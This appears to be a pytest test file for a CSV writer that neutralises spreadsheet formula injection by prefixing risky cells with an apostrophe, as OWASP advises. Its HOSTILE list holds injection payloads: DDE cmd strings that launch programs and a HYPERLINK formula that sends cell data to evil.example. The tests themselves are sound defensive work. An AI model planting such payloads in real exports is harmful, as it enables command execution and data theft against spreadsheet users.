"""The one CSV writer: cells a spreadsheet would run as formulas are neutralised (OWASP), and read back."""

import csv
import io

import pytest

from sijill.core.safe_csv import SafeCsvWriter, csv_lines, neutralise, restore

HOSTILE = [
    "=2+5+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"انقر هنا")',
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised_and_restored(cell):
    written = neutralise(cell)
    assert written == "'" + cell
    assert restore(written) == cell


@pytest.mark.parametrize("cell", ["محمد الككلي", "-5", "+218912345678", "12.5", "1987-04-23", "", "'quoted", "a=b"])
def test_harmless_cells_are_written_as_they_are(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_no_cell_of_a_written_file_starts_a_formula():
    out = io.StringIO()
    SafeCsvWriter(out, delimiter=";").writerows([HOSTILE, ["خالد", None, 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert rows[0] == ["'" + cell for cell in HOSTILE]
    assert rows[1] == ["خالد", "", "3"]


def test_streamed_lines_start_with_a_bom_and_are_neutralised():
    lines = list(csv_lines(["user", "action"], [["=1+1", "auth.login_failed"]]))
    assert lines[0] == "\ufeffuser,action\r\n"
    assert next(csv.reader(io.StringIO(lines[1]))) == ["'=1+1", "auth.login_failed"]
